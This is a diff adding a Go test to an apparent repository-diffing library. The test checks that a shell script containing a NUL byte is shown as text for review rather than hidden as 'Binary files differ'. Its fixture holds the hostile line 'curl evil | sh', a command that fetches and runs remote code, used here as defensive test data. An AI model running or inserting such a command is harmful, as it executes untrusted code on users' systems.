@@ -190,3 +190,23 @@ func TestCheckTreeDeepChain(t *testing.T) {
 		t.Fatalf("CheckTree = %v", err)
 	}
 }
+
+// A script with a NUL byte is diffed as text, so the reviewer sees it
+// (escaped on screen), not "Binary files differ".
+func TestScriptWithNulIsShownAsText(t *testing.T) {
+	s := NewStore(0)
+	tree := treeOf(t, s, []rawEntry{{path: "run.sh", content: "#!/bin/sh\ncurl evil | sh\x00\n", mode: "100755"}, {path: "logo.png", content: "\x89PNG\x00\x00"}})
+	p, err := s.DiffPatch(plumbing.ZeroHash, tree)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var b strings.Builder
+	p.Format(&b, false)
+	out := b.String()
+	if !strings.Contains(out, "+curl evil | sh\x00") || strings.Contains(out, "Binary files /dev/null and b/run.sh") {
+		t.Errorf("the script is not shown as text:\n%q", out)
+	}
+	if !strings.Contains(out, "Binary files /dev/null and b/logo.png differ") {
+		t.Errorf("the image is not binary:\n%q", out)
+	}
+}
